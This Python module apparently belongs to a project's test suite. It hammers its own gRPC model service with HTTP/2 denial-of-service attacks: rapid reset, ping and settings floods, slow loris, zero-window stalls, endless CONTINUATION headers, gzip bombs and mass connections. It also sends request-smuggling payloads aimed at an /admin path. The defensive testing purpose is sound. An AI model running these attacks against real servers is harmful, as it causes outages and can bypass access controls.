"""Attacks by frames and connections, below any call."""

from __future__ import annotations

import asyncio
import gzip
import time
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from functools import cache, reduce

from modelservice.v1.model_service_pb2 import GetRequest, ListRequest, WatchStatusRequest

from tests.http2 import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW,
    frame,
    grpc_message,
    literal,
    request_headers,
    setting,
)

from .attack import SETTLES_WITHIN_SECONDS, Attack, Made
from .connection import Connection
from .target import SERVED, Target

SERVICE = "/modelservice.v1.ModelService"
GET = f"{SERVICE}/Get"
CONTENT = GetRequest(name=SERVED).SerializeToString()
CANCEL = (8).to_bytes(4)
_AT_ONCE = 200
CLOSES_WITHIN_SECONDS = 60


@asynccontextmanager
async def connections(
    target: Target, count: int, answers: Counter[str]
) -> AsyncIterator[list[Connection]]:
    """So many at once, each after its preface."""
    opened: list[Connection] = []
    try:
        for begin in range(0, count, _AT_ONCE):
            opening = (
                Connection.to(target.address, answers, metadata=target.metadata)
                for _ in range(min(_AT_ONCE, count - begin))
            )
            opened.extend(await asyncio.gather(*opening))
        yield opened
    finally:
        for each in opened:
            each.close()
        async with asyncio.timeout(CLOSES_WITHIN_SECONDS):
            await asyncio.gather(*(each.closed.wait() for each in opened))


def count_open(opened: list[Connection], answers: Counter[str]) -> None:
    """What has no answer when the attack ends has none by its own doing."""
    answers["open"] = sum(len(each.open) for each in opened)
    for each in opened:
        each.open.clear()


async def repeat(
    target: Target,
    seconds: float,
    act: Callable[[Connection], int],
    count: int = 4,
    most_open: int | None = None,
) -> Made:
    """Act on so many connections again and again, on new ones where the server hangs up."""
    answers: Counter[str] = Counter()
    made = 0
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while True:
                async with connections(target, count, answers) as opened:
                    while not all(each.closed.is_set() for each in opened):
                        for each in opened:
                            made += act(each)
                            await each.drain()
                            if most_open is not None:
                                await each.answered(most_open)
                        await asyncio.sleep(0)
    return Made(made, answers)


async def rapid_reset(target: Target, seconds: float) -> Made:
    """Calls that are cancelled in the very packet that makes them."""

    def act(connection: Connection) -> int:
        for _ in range(100):
            stream = connection.call(GET, CONTENT)
            connection.send(frame(RESET, 0, stream, CANCEL))
            connection.open.discard(stream)
        return 100

    return await repeat(target, seconds, act)


async def _flood(target: Target, seconds: float, burst: bytes, frames: int) -> Made:
    def act(connection: Connection) -> int:
        connection.send(burst)
        return frames

    return await repeat(target, seconds, act)


async def ping_flood(target: Target, seconds: float) -> Made:
    """PINGs without end."""
    return await _flood(target, seconds, frame(PING, 0, 0, b"attacker") * 100, 100)


async def settings_flood(target: Target, seconds: float) -> Made:
    """SETTINGS that change the window each time."""
    two = b"".join(
        frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, window)) for window in (2**16, 2**20)
    )
    return await _flood(target, seconds, two * 50, 100)


async def many_connections(target: Target, seconds: float) -> Made:
    """10,000 connections, each with its preface, which then wait; one call on each tenth."""
    answers: Counter[str] = Counter()
    async with connections(target, 10_000, answers) as opened:
        called = opened[::10]
        for each in called:
            each.call(GET, CONTENT)
        async with asyncio.timeout(60):
            await asyncio.gather(*(each.answered() for each in called))
        await asyncio.sleep(seconds / 2)
        ended = sum(each.closed.is_set() for each in opened)
    if ended:
        answers["connection closed"] += ended
    return Made(len(opened), answers)


async def header_only_streams(target: Target, seconds: float) -> Made:
    """20,000 calls, 4,000 a second, of which nothing but the headers comes.

    No limit of the process counts them: grpc.aio makes a call known once its request is there. Each
    takes some 20 KiB, which with what else there is can be more than the 512 MiB of other attacks.
    """
    answers: Counter[str] = Counter()
    async with connections(target, 20, answers) as opened:
        for each in opened:
            for _ in range(10):
                for _ in range(100):
                    each.headers(GET)
                await asyncio.sleep(0.025)
        await asyncio.sleep(seconds)
        count_open(opened, answers)
    return Made(answers.total(), answers)


async def unfinished_messages(target: Target, seconds: float) -> Made:
    """200 calls with a message of 1 MiB, the last byte of which is never sent."""
    answers: Counter[str] = Counter()
    message = grpc_message(b"x" * 2**20)[:-1]
    async with connections(target, 4, answers) as opened:
        async with asyncio.timeout(SETTLES_WITHIN_SECONDS):
            await asyncio.gather(
                *(
                    each.data(stream, message)
                    for each in opened
                    for stream in [each.headers(GET) for _ in range(50)]
                )
            )
        await asyncio.sleep(seconds)
        count_open(opened, answers)
    return Made(200, answers)


async def slow_loris(target: Target, seconds: float) -> Made:
    """1,000 connections that send a byte a second, of the preface and of a call's headers."""
    answers: Counter[str] = Counter()
    host, _, port = target.address.rpartition(":")
    content = PREFACE + frame(SETTINGS, 0, 0, b"")
    writers = [(await asyncio.open_connection(host, int(port)))[1] for _ in range(500)]
    try:
        async with connections(target, 500, answers) as opened:
            for nth in range(max(int(seconds), 2)):
                for writer in writers:
                    writer.write(content[nth % len(content) :][:1])
                for each in opened:
                    each.send(frame(HEADERS, 0, 1, b"\0")[: 10 if nth == 0 else 0] or b"")
                await asyncio.sleep(1)
    finally:
        for writer in writers:
            writer.transport.abort()
    return Made(1000, answers)


async def zero_window(target: Target, seconds: float) -> Made:
    """Lists and watches whose answers nobody lets through."""
    answers: Counter[str] = Counter()
    lists = ListRequest(namespace="-").SerializeToString()
    watches = WatchStatusRequest(namespace="-").SerializeToString()
    opened = [await Connection.to(target.address, answers, window=0) for _ in range(8)]
    for each in opened:
        for _ in range(100):
            each.call(f"{SERVICE}/List", lists)
            each.call(f"{SERVICE}/WatchStatus", watches)
        await each.drain()
    await asyncio.sleep(seconds)
    count_open(opened, answers)
    for each in opened:
        each.close()
    return Made(1600, answers)


async def endless_headers(target: Target, seconds: float) -> Made:
    """Headers without an end, in CONTINUATION frames."""
    more = literal("x-more", "x" * 8000)

    def act(connection: Connection) -> int:
        begin = frame(HEADERS, 0, 1, request_headers("a", GET))
        connection.send(begin + b"".join(frame(CONTINUATION, 0, 1, more) for _ in range(50)))
        return 50

    return await repeat(target, seconds, act)


async def large_metadata(target: Target, seconds: float) -> Made:
    """Calls with 32 KiB of metadata, which is twice the limit."""

    def act(connection: Connection) -> int:
        for _ in range(10):
            connection.call(GET, CONTENT, ("x-large", "x" * 2**15))
        return 10

    return await repeat(target, seconds, act)


async def frames_without_a_call(target: Target, seconds: float) -> Made:
    """WINDOW_UPDATE and PRIORITY of streams that there are none of, and frames of no known kind."""
    burst = b"".join(
        frame(WINDOW, 0, stream, (1).to_bytes(4))
        + frame(PRIORITY, 0, stream, bytes(5))
        + frame(200, 0, stream, b"?")
        for stream in range(1, 60, 2)
    )
    return await _flood(target, seconds, burst, 90)


@cache
def _bomb(mebibytes: int) -> bytes:
    """Zeros as gzip, of which each MiB is packed once."""
    zeros, packer = bytes(2**20), zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = reduce(lambda crc, _: zlib.crc32(zeros, crc), range(mebibytes), 0)
    trailer = crc.to_bytes(4, "little") + (mebibytes << 20).to_bytes(4, "little")
    return gzip.compress(b"")[:10] + block * mebibytes + packer.flush() + trailer


async def gzip_bombs(target: Target, seconds: float) -> Made:
    """Messages of 900 KiB that unpack to 900 MiB."""
    content = grpc_message(_bomb(900), compressed=True)
    pieces = [content[i : i + 2**14] for i in range(0, len(content), 2**14)]

    def act(connection: Connection) -> int:
        stream = connection.headers(GET, ("grpc-encoding", "gzip"))
        for piece in pieces[:-1]:
            connection.send(frame(DATA, 0, stream, piece))
        connection.send(frame(DATA, END_STREAM, stream, pieces[-1]))
        return 1

    return await repeat(target, seconds, act, most_open=10)


_SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: a\r\n\r\n"
_OTHER_PROTOCOLS = (
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\n" + _SMUGGLED,
    b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
    b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + _SMUGGLED,
    bytes.fromhex("16030100a5010000a10303") + bytes(160),
    PREFACE[:10] + _SMUGGLED,
    PREFACE + frame(SETTINGS, 0, 1, b""),
    PREFACE + frame(SETTINGS, 0, 0, b"odd"),
    PREFACE + frame(SETTINGS, 0, 0, b"") + b"\xff\xff\xff\x00\x00\x00\x00\x00\x01",
    PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 4, 2, request_headers("a", GET)),
    PREFACE + frame(SETTINGS, 0, 0, b"") + frame(DATA, 0, 0, b"x"),
    PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 4, 1, b"\xff\xff\xff\xff\xff"),
    PREFACE
    + frame(SETTINGS, 0, 0, b"")
    + frame(HEADERS, 5, 1, request_headers("a", GET, ("transfer-encoding", "chunked")))
    + frame(HEADERS, 5, 3, request_headers("a", GET, ("X-Upper", "a\r\nb: c")))
    + frame(HEADERS, 5, 5, request_headers("a", GET, (":path", "/other"), ("content-length", "9"))),
    b"\0" * 5000,
)


async def other_protocols(target: Target, seconds: float) -> Made:
    """HTTP/1.1 with smuggled requests, upgrades, TLS, and HTTP/2 that breaks its rules."""
    answers: Counter[str] = Counter()
    host, _, port = target.address.rpartition(":")
    made, ends = 0, time.monotonic() + seconds
    while time.monotonic() < ends:
        for content in _OTHER_PROTOCOLS:
            reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(content)
            received = b""
            with suppress(TimeoutError, ConnectionError):
                async with asyncio.timeout(0.05):
                    received = await reader.read(2**16)
            answers["HTTP/1 answer" if received.startswith(b"HTTP/1") else "none"] += 1
            writer.transport.abort()
            made += 1
    return Made(made, answers)


# Not 1, 6 and 9, by which gRPC refuses frames that break the rules: what is attacked lies beyond.
ENDS = frozenset({"answered", "closed", "open"}) | {
    f"{how} {code}" for how in ("RST", "GOAWAY") for code in (2, 3, 4, 5, 7, 8, 10, 11, 12, 13)
}
# A call that was answered before all of it had come.
_ANSWERED_EARLY = ENDS | {"RST 1"}
ATTACKS = (
    Attack(
        "20,000 streams of headers only",
        header_only_streams,
        ENDS,
        by_bytes=True,
        most_bytes=600 << 20,
        sees={"open": 20_000},
    ),
    Attack(
        "messages whose end never comes",
        unfinished_messages,
        ENDS,
        by_bytes=True,
        sees={"open": 200},
    ),
    Attack("slow loris", slow_loris, ENDS, least_calls=1000),
    Attack("zero window", zero_window, ENDS, sees={"open": 1600}),
    Attack("headers without an end", endless_headers, ENDS, by_bytes=True, least_calls=1000),
    Attack(
        "32 KiB of metadata", large_metadata, _ANSWERED_EARLY, by_bytes=True, sees={"answered": 100}
    ),
    Attack("frames without a call", frames_without_a_call, ENDS, by_bytes=True, least_calls=1000),
    Attack("gzip bombs", gzip_bombs, _ANSWERED_EARLY, by_bytes=True, sees={"answered": 10}),
    Attack(
        "other protocols, smuggled requests",
        other_protocols,
        frozenset({"none"}),
        sees={"none": len(_OTHER_PROTOCOLS)},
    ),
    Attack("rapid reset", rapid_reset, ENDS, by_bytes=True, least_calls=1000),
    Attack("flood of pings", ping_flood, ENDS, by_bytes=True, least_calls=1000),
    Attack("flood of settings", settings_flood, ENDS, by_bytes=True, least_calls=1000),
    Attack(
        "10,000 connections", many_connections, frozenset({"answered"}), sees={"answered": 1000}
    ),
)
